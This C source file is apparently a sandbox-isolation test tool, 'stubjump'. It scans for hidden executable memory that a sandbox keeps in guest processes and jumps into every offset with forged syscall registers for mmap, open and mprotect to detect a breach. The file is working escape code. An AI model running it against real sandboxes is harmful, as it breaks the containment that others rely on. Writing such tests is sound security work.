// stubjump: attacks the code that the sandbox keeps in every guest address space. It looks for
// executable memory above the guest's own address space that /proc/self/maps does not own up to,
// then jumps to every offset of it with registers that ask for mmap, open and other calls, each in
// a process that may die of it. A jump that really mapped memory is found by reading it.
//
// Prints what became of the attack, "no stub" where there is nothing to attack, "held" where
// nothing was gained; exits 1 after a breach.
//
//	stubjump [FIRST [LAST]]     hexadecimal bounds of the search
#define _GNU_SOURCE
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FORGED 0x12340000UL /* where a forged mmap would put its page */

static sigjmp_buf out;

static void caught(int sig)
{
	siglongjmp(out, sig);
}

static void catch_all(void)
{
	static char stack[65536];
	stack_t alt = {.ss_sp = stack, .ss_size = sizeof stack};
	struct sigaction a = {.sa_handler = caught, .sa_flags = SA_ONSTACK | SA_NODEFER};
	const int sigs[] = {SIGSEGV, SIGBUS, SIGILL, SIGFPE, SIGTRAP, SIGSYS, SIGALRM};

	sigaltstack(&alt, NULL);
	for (size_t i = 0; i < sizeof sigs / sizeof sigs[0]; i++)
		sigaction(sigs[i], &a, NULL);
}

// readable tells whether a load from p works.
static int readable(uintptr_t p)
{
	if (sigsetjmp(out, 1) != 0)
		return 0;
	(void)*(volatile char *)p;
	return 1;
}

// owned tells whether /proc/self/maps lists p.
static int owned(uintptr_t p)
{
	char line[512];
	FILE *f = fopen("/proc/self/maps", "r");
	uintptr_t a, b;
	int found = 0;

	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "%lx-%lx", &a, &b) == 2 && a <= p && p < b)
			found = 1;
	if (f)
		fclose(f);
	return found;
}

// jump enters target with forged registers: a call number and arguments as mmap(2), open(2) and
// others take them, and every other register holding an address of ours.
static void jump(uintptr_t target, long nr)
{
	static char path[] = "/breach";
	static char scratch[8192] __attribute__((aligned(4096)));
	uintptr_t a0 = nr == SYS_mmap ? FORGED : (uintptr_t)path;
	uintptr_t a1 = nr == SYS_mmap ? 4096 : 0102 /* O_CREAT|O_RDWR */;
	register uintptr_t r10 __asm__("r10") = MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS;
	register uintptr_t r8 __asm__("r8") = -1;
	register uintptr_t r9 __asm__("r9") = 0;
	uintptr_t r12 = (uintptr_t)scratch;

	__asm__ volatile("mov %6, %%rbx\n\tmov %6, %%r12\n\tmov %6, %%r13\n\tmov %6, %%r14\n\tmov %6, %%r15\n\tjmp *%0"
			 : : "c"(target), "a"(nr), "D"(a0), "S"(a1), "d"(7L), "r"(r10), "r"(r12), "r"(r8), "r"(r9)
			 : "rbx", "r12", "r13", "r14", "r15", "r11", "memory");
}

struct progress {
	volatile long next; // the jump to do next
	volatile long breaches;
	volatile uintptr_t where;
};

// attack does jumps from p->next on until one kills it.
static void attack(struct progress *p, uintptr_t base, long size)
{
	const long calls[] = {SYS_mmap, SYS_open, SYS_mprotect};

	catch_all();
	for (;;) {
		long n = p->next++;

		if (n >= size * 3)
			_exit(0);
		alarm(1);
		if (sigsetjmp(out, 1) == 0)
			jump(base + n / 3, calls[n % 3]);
		alarm(0);
		if (readable(FORGED)) {
			p->breaches++;
			p->where = base + n / 3;
			_exit(1);
		}
	}
}

// reap waits for pid, kills it when it makes no progress for five seconds.
static void reap(pid_t pid, struct progress *p)
{
	struct timespec tick = {.tv_nsec = 1000000};
	long last = p->next;
	int idle = 0;

	while (waitpid(pid, NULL, WNOHANG) == 0) {
		nanosleep(&tick, NULL);
		idle = p->next == last ? idle + 1 : 0;
		last = p->next;
		if (idle == 5000)
			kill(pid, SIGKILL);
	}
}

int main(int argc, char **argv)
{
	uintptr_t first = argc > 1 ? strtoul(argv[1], NULL, 16) : 0x7ffc00000000;
	uintptr_t last = argc > 2 ? strtoul(argv[2], NULL, 16) : 0x7ffffffff000;
	struct progress *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	long found = 0, jumps = 0, deaths = 0, breaches = 0;

	catch_all();
	for (uintptr_t a = first; a < last; a += 4096) {
		if (!readable(a)) {
			// Mappings made by a sandbox are rarely alone: look at every 16th page only.
			if (a % 65536 == 0)
				a += 65536 - 4096;
			continue;
		}
		if (owned(a))
			continue;
		found++;
		memset(p, 0, sizeof *p);
		while (p->next < 4096 * 3) {
			pid_t pid = fork();

			if (pid < 0) {
				perror("fork");
				return 1;
			}
			if (pid == 0)
				attack(p, a, 4096);
			reap(pid, p);
			deaths++;
		}
		jumps += 4096 * 3;
		if (p->breaches) {
			breaches += p->breaches;
			printf("BREACH by a jump to page %#lx + %#lx\n", a, p->where - a);
		}
	}
	fprintf(stderr, "pages %ld jumps %ld deaths %ld breaches %ld\n", found, jumps, deaths, breaches);
	puts(breaches ? "breached" : found ? "held" : "no stub");
	return breaches != 0;
}
